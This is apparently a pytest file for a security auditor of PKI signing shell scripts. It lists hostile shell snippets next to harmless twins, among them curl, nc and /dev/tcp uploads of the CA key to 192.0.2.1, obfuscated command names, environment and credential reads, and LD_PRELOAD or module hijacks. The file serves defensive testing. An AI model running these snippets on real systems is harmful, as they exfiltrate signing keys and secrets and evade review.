"""The audit's rules, each with its negative twin: what cannot be resolved is rated for the
worst it could do, what can be resolved is, key material must be generated, and the families
of issue 10 (network in disguise, the token, copies out of the work dir, daemons, backdated
roots, hidden characters) are HIGH."""

from __future__ import annotations

import pytest

from fioca.pki import reference
from fioca.pki.audit import ScriptAudit, Severity, audit_scripts

KNOWN = reference.known_sets(factory="acme", local_ca_cn="fio-abc")
SHEBANG = "#!/bin/sh -e\n"


def audit(body: str, name: str = "sign_tls_csr", *, hsm: bool = False) -> ScriptAudit:
    return audit_scripts({name: SHEBANG + body}, hsm=hsm, known=KNOWN, jail="test").scripts[0]


def found(body: str, name: str = "sign_tls_csr", *, hsm: bool = False) -> set[tuple[str, Severity]]:
    return {(f.id, f.severity) for f in audit(body, name, hsm=hsm).findings}


def high(body: str, name: str = "sign_tls_csr", *, hsm: bool = False) -> set[str]:
    return {i for i, s in found(body, name, hsm=hsm) if s == Severity.HIGH}


# (script, hostile body, its harmless twin, the HIGH finding the first has and the second not)
TWINS = [
    # Unresolved means severe: aliases, globs, printf-built names, tool-named functions.
    ("sign_tls_csr", "alias c=curl\nc -s https://192.0.2.1/\n", "alias c=date\nc\n", "network-access"),
    ("sign_tls_csr", "alias c='curl -s'\nc https://192.0.2.1/\n", "c=curl\necho $c\n", "network-access"),
    ("sign_tls_csr", "/usr/bin/cur[l] -s https://192.0.2.1/\n", "/usr/bin/date\n", "network-access"),
    ("sign_tls_csr", "/usr/bin/cur[l] -s https://192.0.2.1/\n", "/usr/bin/date\n", "unresolved-command"),
    ("sign_tls_csr", "$(printf '/usr/bin/%s' curl) https://192.0.2.1/\n", "printf '/usr/bin/%s' curl\n", "network-access"),
    ("sign_tls_csr", "$(printf '/usr/bin/%s' curl) https://192.0.2.1/\n", "x=$(printf '%s' a)\n", "unresolved-command"),
    ("sign_tls_csr", "c=$(cat name)\n$c https://192.0.2.1/\n", "c=date\n$c\n", "unresolved-command"),
    ("sign_tls_csr", "$(echo Y3VybA== | base64 -d) https://192.0.2.1/\n", "echo Y3VybA== | base64 -d >&2\n", "network-access"),
    ("sign_tls_csr", "curl() { echo hi; }\ncurl x\n", "fetch() { echo hi; }\nfetch x\n", "shadowed-command"),
    ("sign_tls_csr", "alias openssl=true\n", "alias o=true\n", "shadowed-command"),
    ("sign_tls_csr", "openssl() { cat factory_ca.key; }\nopenssl x509 -req -in x\n", "show() { cat factory_ca.pem; }\nshow\n", "reads-private-key"),
    # Paths built at run time, /proc, eval.
    ("sign_tls_csr", 'cp factory_ca.pem "$(cat dest)"\n', "cp factory_ca.pem copy.pem\n", "unresolved-path"),
    ("sign_tls_csr", "cat \"$(printf '/proc/%s/environ' \"$PPID\")\"\n", "cat \"$(printf '%s.pem' factory_ca)\"\n", "reads-environment"),
    ("sign_tls_csr", "x=$(cat /proc/$PPID/cmdline)\n", "x=$(cat factory_ca.pem)\n", "reads-proc"),
    ("sign_tls_csr", 'x=$(cat f)\neval "$x"\n', "eval 'echo hi'\n", "eval-data"),
    ("sign_tls_csr", "eval 'curl -s https://192.0.2.1/'\n", "eval 'echo hi'\n", "network-access"),
    ("sign_tls_csr", "sh -c 'curl https://192.0.2.1/'\n", "sh -c 'echo hi'\n", "network-access"),
    ("sign_tls_csr", "trap 'curl https://192.0.2.1/' EXIT\n", "trap 'rm -f t' EXIT\ntouch t\n", "network-access"),
    ("sign_tls_csr", "cat > x.sh <<'EOF'\ncurl https://192.0.2.1/\nEOF\n. ./x.sh\n", "cat > x.sh <<'EOF'\necho hi\nEOF\n. ./x.sh\n", "network-access"),
    ("sign_tls_csr", "find . -name '*.pem' -exec curl -T {} https://192.0.2.1/ \\;\n", "find . -name '*.pem' -exec cat {} \\;\n", "network-access"),
    ("sign_tls_csr", "timeout 5 nc 192.0.2.1 80 < factory_ca.pem\n", "timeout 5 cat factory_ca.pem\n", "network-access"),
    # The key follows copies and renames.
    ("sign_tls_csr", "cp factory_ca.key x\nopenssl ec -in x -text -noout\n", "cp factory_ca.key x\nopenssl ec -in x -out y.pem\n", "reads-private-key"),
    ("sign_tls_csr", "mv factory_ca.key k\ncat k\n", "cp factory_ca.pem k\ncat k\n", "reads-private-key"),
    ("sign_tls_csr", "cat factory_ca.k* >&2\n", "cat factory_ca.p* >&2\n", "reads-private-key"),
    ("sign_tls_csr", "base64 < factory_ca.key\n", "base64 < factory_ca.pem\n", "reads-private-key"),
    ("sign_tls_csr", "openssl pkeyutl -sign -inkey factory_ca.key -in data\n", "openssl pkeyutl -verifyrecover -pubin -inkey pub.pem -in data\n", "reads-private-key"),
    # Key material made by a key-generation command only.
    ("create_ca", "cat > k.pem <<'EOF'\n-----BEGIN EC PRIVATE KEY-----\nMHcCAQEEIB\n-----END EC PRIVATE KEY-----\nEOF\n",
     "cat > k.pem <<'EOF'\n-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\nEOF\n", "literal-key"),
    ("create_ca", "printf '%s' \"$blob\" > k.pem\nopenssl req -new -x509 -config c.cnf -key k.pem -out factory_ca.pem\n",
     "openssl ecparam -genkey -name prime256v1 -noout -out k.pem\nopenssl req -new -x509 -config c.cnf -key k.pem -out factory_ca.pem\n",
     "key-from-data"),
    ("create_ca", "openssl ecparam -genkey -name prime256v1 | base64 | base64 -d | openssl ec -out k.pem\nopenssl req -new -x509 -config c.cnf -key k.pem -out factory_ca.pem\n",
     "openssl ecparam -genkey -name prime256v1 | openssl ec -out k.pem\nopenssl req -new -x509 -config c.cnf -key k.pem -out factory_ca.pem\n",
     "key-from-data"),
    ("sign_tls_csr", 'openssl x509 -req -in "$1" -CA factory_ca.pem -CAkey factory_ca.key -set_serial "0x$(xxd -p factory_ca.key | head -c 40)"\n',
     'openssl x509 -req -in "$1" -CA factory_ca.pem -CAkey factory_ca.key -set_serial 0x1234\n', "chosen-serial"),
    ("create_ca", "cat > c.cnf <<EOF\n[ext]\nsubjectKeyIdentifier = $(sha1sum < factory_ca.key | cut -c1-40)\nEOF\nopenssl req -new -x509 -config c.cnf -key factory_ca.key -out factory_ca.pem\n",
     "cat > c.cnf <<EOF\n[ext]\nsubjectKeyIdentifier = hash\nEOF\nopenssl req -new -x509 -config c.cnf -key factory_ca.key -out factory_ca.pem\n",
     "chosen-key-identifier"),
    ("sign_tls_csr", "cat > e <<EOF\nauthorityKeyIdentifier = 01:02:03\nEOF\nopenssl x509 -req -in \"$1\" -extfile e -CA factory_ca.pem -CAkey factory_ca.key\n",
     "cat > e <<EOF\nauthorityKeyIdentifier = keyid:always, issuer\nEOF\nopenssl x509 -req -in \"$1\" -extfile e -CA factory_ca.pem -CAkey factory_ca.key\n",
     "chosen-key-identifier"),
    # Copies out of the work dir: awk, GNU sed, links, cp -t, daemons.
    ("create_ca", "awk 'BEGIN { system(\"cp factory_ca.key /tmp/k\") }'\n", "awk '{ print $1 }' ca.cnf\n", "eval-data"),
    ("create_ca", "sed -n '1e cp factory_ca.key /tmp/k' factory_ca.pem\n", "sed -n '1p' factory_ca.pem\n", "eval-data"),
    ("create_ca", "sed 's/a/b/e' ca.cnf\n", "sed 's/a/b/g' ca.cnf\n", "eval-data"),
    ("create_ca", "sed -n 'w /tmp/k' factory_ca.pem\n", "sed -n 'w k' factory_ca.pem\n", "absolute-path"),
    ("create_ca", "printf 'BEGIN { system(\"id\") }' > p.awk\nawk -f p.awk ca.cnf\n", "cat > p.awk <<'EOF'\n{ print $1 }\nEOF\nawk -f p.awk ca.cnf\n", "eval-data"),
    ("create_ca", "cat > s.sed <<'EOF'\n1e id\nEOF\nsed -f s.sed ca.cnf\n", "cat > s.sed <<'EOF'\n1p\nEOF\nsed -n -f s.sed ca.cnf\n", "eval-data"),
    ("create_ca", "ln factory_ca.key k\n", "cp factory_ca.pem k\n", "links-file"),
    ("sign_tls_csr", "ln -s ../tls-crt out\n", "cp factory_ca.pem out\n", "links-file"),
    ("create_ca", 'cp -t "$(cat where)" factory_ca.pem\n', "mkdir d\ncp -t d factory_ca.pem\n", "unresolved-path"),
    ("create_ca", "setsid -f sh -c 'sleep 60; cat factory_ca.key'\n", "sh -c 'sleep 0'\n", "background-job"),
    ("create_ca", "nohup sleep 60 >/dev/null\n", "sleep 0\n", "background-job"),
    ("create_ca", "(sleep 60; cp factory_ca.key k) &\n", "(sleep 0; cp factory_ca.pem k)\n", "background-job"),
    # Backdated roots, and a root with a path length.
    ("create_ca", "openssl req -new -x509 -not_before 20060101000000Z -config c.cnf -key factory_ca.key -out factory_ca.pem\n",
     "openssl req -new -x509 -days 7300 -config c.cnf -key factory_ca.key -out factory_ca.pem\n", "backdated-validity"),
    ("create_ca", "faketime 2006-01-01 openssl req -new -x509 -days 7300 -config c.cnf -key factory_ca.key -out factory_ca.pem\n",
     "timeout 5 openssl req -new -x509 -days 7300 -config c.cnf -key factory_ca.key -out factory_ca.pem\n", "backdated-validity"),
    ("create_ca", "FAKETIME=-17y openssl req -new -x509 -days 7300 -config c.cnf -key factory_ca.key -out factory_ca.pem\n",
     "LC_ALL=C openssl req -new -x509 -days 7300 -config c.cnf -key factory_ca.key -out factory_ca.pem\n", "backdated-validity"),
    ("create_ca", "openssl req -new -x509 -days $((7300 - $(date +%j))) -key factory_ca.key -out factory_ca.pem\n",
     "openssl req -new -x509 -days $((365 * 20)) -key factory_ca.key -out factory_ca.pem\n", "unresolved-value"),
    ("sign_tls_csr", "openssl x509 -req -in \"$1\" -extfile planted.ext -CA factory_ca.pem -CAkey factory_ca.key\n",
     "echo 'keyUsage = digitalSignature' > own.ext\nopenssl x509 -req -in \"$1\" -extfile own.ext -CA factory_ca.pem -CAkey factory_ca.key\n",
     "unresolved-value"),
    ("create_ca", "cp factory_ca.pem x.pem\nopenssl engine dynamic -pre SO_PATH:./x.so -pre LOAD\n", "openssl version\n", "eval-data"),
    ("create_ca", "cp -l factory_ca.pem k\n", "cp factory_ca.pem k\n", "links-file"),
    ("create_ca", "link factory_ca.pem k\n", "cp factory_ca.pem k\n", "links-file"),
    ("sign_tls_csr", "c=; for p in c u r l; do c=$c$p; done\n$c https://192.0.2.1/\n", "for p in a b; do echo $p; done\n", "unresolved-command"),
    ("sign_tls_csr", "case x in $(curl -s https://192.0.2.1/)) ;; esac\n", "case x in a) ;; esac\n", "network-access"),
    ("sign_tls_csr", "x=$(cat f)\ny=${x:-$(curl -s https://192.0.2.1/)}\n", "y=${HSM_TOKEN_LABEL-label}\n", "network-access"),
    ("create_ca", "cat > c.cnf <<EOF\n[req]\nx509_extensions = ext\n[ext]\nbasicConstraints = critical, CA:TRUE, pathlen:0\nEOF\nopenssl req -new -x509 -config c.cnf -key factory_ca.key -out factory_ca.pem\n",
     "cat > c.cnf <<EOF\n[req]\nx509_extensions = ext\n[ext]\nbasicConstraints = critical, CA:TRUE\nEOF\nopenssl req -new -x509 -config c.cnf -key factory_ca.key -out factory_ca.pem\n",
     "root-pathlen"),
    # Characters that hide what the text says.
    ("sign_tls_csr", "# a comment\x1b[1A\x1b[2K\necho hi\n", "# a comment\necho hi\n", "hidden-characters"),
    ("sign_tls_csr", "echo hi # \u2066\u2069 note\n", "echo hi # note\n", "hidden-characters"),
    ("sign_tls_csr", "cu\u200brl -s x\n", "echo x\n", "hidden-characters"),
    ("sign_tls_csr", "echo hi\rcurl x\n", "echo hi\n", "hidden-characters"),
    # From the old lexer's table: quoting, here-documents, continuations.
    ("sign_tls_csr", "cat > x.cnf <<EOF\nv = $FIOCTL_TOKEN\nEOF\n", "cat > x.cnf <<'EOF'\nv = $FIOCTL_TOKEN\nEOF\n", "reads-secret-env"),
    ("sign_tls_csr", 'echo "$OSF_TOKEN"\n', "echo '$OSF_TOKEN'\n", "reads-secret-env"),
    ("sign_tls_csr", "rm -f out.pem\n", "touch out.pem\nrm -f out.pem\n", "deletes-foreign-file"),
    ("sign_tls_csr", "rm -rf work\n", "mkdir work\nrm -rf work\n", "deletes-foreign-file"),
    ("sign_tls_csr", "openssl x509 -req -in a.csr \\\n  -days 9999 -sha256\n", "openssl x509 -req -in a.csr \\\n  -days 3650 -sha256\n", "validity-exceeds-profile"),
    ("sign_tls_csr", "sh -c 'openssl x509 -req -in a.csr -days 36500 -sha256'\n", "sh -c 'openssl x509 -req -in a.csr -days 3650 -sha256'\n", "validity-exceeds-profile"),
    ("sign_tls_csr", "f() { openssl x509 -req -in a.csr -days \"$1\"; }\nf 36500\n", "f() { openssl x509 -req -in a.csr -days \"$1\"; }\nf 3650\n", "validity-exceeds-profile"),
    ("sign_tls_csr", "openssl req -new -newkey rsa:1024 -keyout k -out r\n", "openssl req -new -newkey rsa:2048 -keyout k -out r\n", "weak-crypto"),
    ("sign_tls_csr", "openssl x509 -req -in a.csr -days 10 -sha1\n", "openssl x509 -req -in a.csr -days 10 -sha256\n", "weak-crypto"),
    ("sign_tls_csr", "openssl genrsa -out k.pem 1024\n", "openssl genrsa -out k.pem 4096\n", "weak-crypto"),
    ("sign_tls_csr", "cat > c.cnf <<EOF\n[req]\ndefault_md = md5\nEOF\nopenssl req -new -config c.cnf -key k.pem -out r.csr\n",
     "cat > c.cnf <<EOF\n[req]\ndefault_md = sha256\nEOF\nopenssl req -new -config c.cnf -key k.pem -out r.csr\n", "weak-crypto"),
    ("sign_tls_csr", "echo `curl -s https://example.net`\n", "echo `date`\n", "network-access"),
    ("sign_tls_csr", "x=${y:-$(wget -qO- https://example.net)}\n", "x=${y:-$(date)}\n", "network-access"),
    ("sign_tls_csr", "cat factory_ca.pem > /dev/tcp/192.0.2.1/80\n", "cat factory_ca.pem > /dev/null\n", "network-access"),
    ("sign_tls_csr", "cp a.pem /etc/ssl/a.pem\n", "cp a.pem b.pem\n", "absolute-path"),
    ("sign_tls_csr", "cp a.pem ~/a.pem\n", "cp a.pem ./a.pem\n", "outside-workdir"),
    ("sign_tls_csr", "cat a.pem > ../a.pem\n", "cat a.pem > a..pem\n", "outside-workdir"),
    ("sign_tls_csr", "cat ~/.config/fioctl.yaml >&2\n", "cat ./config.yaml >&2\n", "reads-credentials"),
    ("sign_tls_csr", "printf x | sh\n", "printf x | cat\n", "eval-data"),
    ("sign_tls_csr", 'sh -c "$payload$(cat p)"\n', "sh -c 'echo hi'\n", "eval-data"),
    ("sign_tls_csr", "chmod 777 a.pem\n", "chmod 400 a.pem\n", "privilege-change"),
    ("sign_tls_csr", "printenv\n", "printenv HSM_MODULE\n", "reads-environment"),
    ("sign_tls_csr", "set\n", "set -u\n", "reads-environment"),
    ("sign_tls_csr", "cat /proc/self/environ\n", "cat proc/self/environ\n", "reads-environment"),
    ("sign_tls_csr", "cat factory_ca.key\n", "cat factory_ca.pem\n", "reads-private-key"),
    ("sign_tls_csr", "trap 'rm -f factory_ca.key' EXIT\n", "trap 'rm -f t.pem' EXIT\ntouch t.pem\n", "deletes-foreign-file"),
    ("sign_tls_csr", "export PATH=/tmp/bin:$PATH\n", "export LC_ALL=C\n", "eval-data"),
    ("sign_tls_csr", "export PKCS11_MODULE_PATH=/tmp/evil.so\n", 'export PKCS11_MODULE_PATH="$HSM_MODULE"\n', "eval-data"),
    ("sign_tls_csr", "LD_PRELOAD=./x.so openssl req -noout -in \"$1\"\n", "LC_ALL=C openssl req -noout -in \"$1\"\n", "eval-data"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "hostile", "harmless", "finding_id"), TWINS, ids=lambda v: v if isinstance(v, str) and len(v) < 30 else None)
def test_finding_and_its_twin(name: str, hostile: str, harmless: str, finding_id: str) -> None:
    assert finding_id in high(hostile, name), audit(hostile, name).findings
    assert finding_id not in high(harmless, name), audit(harmless, name).findings


def test_a_network_tool_in_any_guise_is_high_and_says_what_it_resolves_to() -> None:
    messages = {f.message for f in audit("alias c=curl\nc -s https://192.0.2.1/\n").findings}
    assert "through the alias c: curl reaches the network" in messages
    messages = {f.message for f in audit("/usr/bin/cur[l] https://192.0.2.1/\n").findings}
    assert "runs /usr/bin/cur[l], a glob: it can run curl" in messages
    messages = {f.message for f in audit("$(printf '\\143\\165\\162\\154') https://192.0.2.1/\n").findings}
    assert "runs a command whose name a program printed at run time (it is curl): a hidden name" in messages


def test_an_unresolvable_command_name_is_high_even_if_it_could_be_harmless() -> None:
    assert "unresolved-command" in high('"$(cat name)" -s\n')
    assert "unresolved-command" in high("/usr/bin/[a-z]* x\n")
    assert "unresolved-command" not in high('prog=openssl\n"$prog" version\n')


def test_hsm_pin_named_is_info_on_a_command_line_medium_anywhere_else_high() -> None:
    named = found('pkcs11-tool --module "$HSM_MODULE" --pin env:HSM_PIN --login --list-objects\n', "create_ca", hsm=True)
    assert named == {("reads-hsm-env", Severity.INFO)}
    for line in ('pkcs11-tool --module "$HSM_MODULE" --pin "$HSM_PIN" --login --list-objects\n',
                 'pkcs11-tool --module "$HSM_MODULE" --pin $HSM_PIN --login --list-objects\n',
                 'openssl req -new -engine pkcs11 -keyform engine -key "pkcs11:object=root-ca;pin-value=$HSM_PIN" -out r\n',
                 'openssl req -new -key k.pem -passin "pass:$HSM_PIN" -out r\n'):  # fmt: skip
        for hsm in (False, True):
            assert ("hsm-pin-on-command-line", Severity.MEDIUM) in found(line, "create_ca", hsm=hsm), line
            assert "reads-secret-env" not in high(line, "create_ca", hsm=hsm)
    for leak in ('echo "$HSM_PIN" >&2\n', 'printf %s "$HSM_PIN" > pin.txt\n', "cat > p <<EOF\n$HSM_PIN\nEOF\n",
                 'curl -d "$HSM_PIN" https://192.0.2.1/\n'):  # fmt: skip
        assert "reads-secret-env" in high(leak, "create_ca", hsm=True), leak
    assert found('[ -n "$HSM_PIN" ] || exit 1\n', "create_ca", hsm=True) <= {("reads-hsm-env", Severity.INFO)}


@pytest.mark.parametrize(
    "line",
    ['export PKCS11_MODULE_PATH="$HSM_MODULE"\n', 'PKCS11_MODULE_PATH="${HSM_MODULE}" openssl req -noout -in "$1"\n'],
)
def test_the_engine_may_load_the_users_module(line: str) -> None:
    assert found(line, "sign_ca_csr", hsm=True) == {("reads-hsm-env", Severity.INFO)}


def test_values_flow_across_branches() -> None:
    body = 'if [ -n "$x" ]; then days=3650; else days=36500; fi\nopenssl x509 -req -in "$1" -days $days\n'
    assert "validity-exceeds-profile" in high(body)
    assert "validity-exceeds-profile" not in high(body.replace("36500", "3000"))
    # A branch the mode decides: without HSM, only the else branch's value reaches the command.
    moded = 'if [ -n "$HSM_MODULE" ]; then d=36500; else d=3650; fi\nopenssl x509 -req -in "$1" -days $d\n'
    assert "validity-exceeds-profile" not in high(moded, hsm=False)
    assert "validity-exceeds-profile" in high(moded, hsm=True)


def test_a_branch_that_cannot_run_keeps_its_severity_and_says_so() -> None:
    body = 'if [ -n "$HSM_MODULE" ]; then\n\tcurl -s https://192.0.2.1/\nfi\n'
    [finding] = [f for f in audit(body, hsm=False).findings if f.id == "network-access"]
    assert finding.severity == Severity.HIGH and not finding.in_mode
    assert finding.message == "curl reaches the network (in a branch that runs only in HSM mode)"
    [live] = [f for f in audit(body, hsm=True).findings if f.id == "network-access"]
    assert live.in_mode and live.message == "curl reaches the network"
    never = [f for f in audit("if false; then curl x; fi\n").findings if f.id == "network-access"]
    assert never == [] or never[0].in_mode


def test_a_file_made_only_in_a_branch_that_cannot_run_does_not_excuse_a_delete() -> None:
    body = 'if [ -n "$HSM_MODULE" ]; then touch factory_ca.pem; fi\nrm factory_ca.pem\n'
    assert "deletes-foreign-file" in high(body, hsm=False)
    assert "deletes-foreign-file" not in high(body, hsm=True)


def test_errexit_from_shebang_or_set_and_its_twins() -> None:
    body = "openssl req -noout -verify -in \"$1\"\n"

    def ids(text: str) -> set[str]:
        return {f.id for f in audit_scripts({"sign_ca_csr": text}, hsm=False, known=KNOWN, jail="").scripts[0].findings}

    assert "missing-errexit" not in ids("#!/bin/sh -e\n" + body)
    assert "missing-errexit" not in ids("#!/bin/sh\nset -e\n" + body)
    assert "missing-errexit" not in ids("#!/bin/sh\nset -o errexit\n" + body)
    assert "missing-errexit" in ids("#!/bin/sh\n" + body)
    assert "missing-errexit" in ids("#!/bin/sh\n" + body + "set -e\n")
    assert "missing-errexit" in ids("#!/bin/sh -e\nset +e\n" + body)
    assert "not-a-shell-script" in ids("#!/usr/bin/python3\nprint(1)\n")


def test_endless_loops_and_unknown_programs_are_medium() -> None:
    assert ("endless-loop", Severity.MEDIUM) in found("while true; do sleep 1; done\n")
    assert ("endless-loop", Severity.MEDIUM) not in found("while true; do break; done\n")
    assert found("frobnicate --all\n") == {("unknown-command", Severity.MEDIUM)}


def test_pathological_nesting_fails_closed() -> None:
    deep = audit("$(" * 3000 + ")" * 3000 + "\n")
    assert deep.max_severity == Severity.HIGH and {f.id for f in deep.findings} == {"unparsable"}
    nested = 'x="' + '$(echo "' * 30 + "hi" + '")' * 30 + '"\n'
    assert audit(nested).max_severity is None


def test_a_value_the_mode_set_makes_later_tests_decided_by_the_mode() -> None:
    body = 'if [ -n "$HSM_MODULE" ]; then extra=-engine; fi\nif [ -n "$extra" ]; then\n\tcurl -s https://192.0.2.1/\nfi\n'
    [without] = [f for f in audit(body, hsm=False).findings if f.id == "network-access"]
    assert not without.in_mode and without.message.endswith("(in a branch that runs only in HSM mode)")
    [with_hsm] = [f for f in audit(body, hsm=True).findings if f.id == "network-access"]
    assert with_hsm.in_mode
